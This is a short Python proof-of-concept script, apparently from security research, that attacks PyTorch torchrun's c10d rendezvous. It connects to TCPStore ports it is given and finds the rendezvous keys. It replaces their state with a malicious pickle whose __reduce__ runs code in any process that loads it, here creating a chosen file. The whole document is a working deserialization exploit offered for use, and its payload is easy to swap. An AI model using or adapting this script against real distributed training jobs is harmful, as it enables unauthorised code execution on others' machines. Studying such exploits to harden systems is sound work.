"""Attack torchrun's rendezvous as a stranger: ``c10d_attack.py FILE HOST:PORT …``.

Every port is tried as a ``TCPStore``. There, torch's ``c10d`` backend stores the state of a rendezvous as a base64 pickle under
``torch.rendezvous.<run id>`` (torch 2.13, ``c10d_rendezvous_backend.py:43``, ``dynamic_rendezvous.py:444``), and ``list_keys``
returns the key. The attack replaces the state by a pickle that creates FILE in the process that reads it.
"""

import base64
import os
import pickle
import sys
import threading

import torch.distributed

PATIENCE_S = 10.0


class Payload:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def attack(target, value):
    host, _, port = target.rpartition(":")
    try:
        store = torch.distributed.TCPStore(host, int(port), is_master=False, wait_for_workers=False)
        keys = [key for key in store.list_keys() if "torch.rendezvous" in key]
        for key in keys:
            store.set(key.removeprefix("/"), value)
    except RuntimeError as error:
        print(f"{target} is no store: {str(error)[:90]}\n", end="", flush=True)
    else:
        print(f"{target} is a store; replaced {keys}\n", end="", flush=True)


def main():
    value = base64.b64encode(pickle.dumps(Payload(sys.argv[1])))
    # In parallel: ports without a store do not answer, and TCPStore waits for them longer than its timeout.
    threads = [threading.Thread(target=attack, args=(target, value), daemon=True) for target in sys.argv[2:]]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(PATIENCE_S / len(threads))
    os._exit(0)


main()
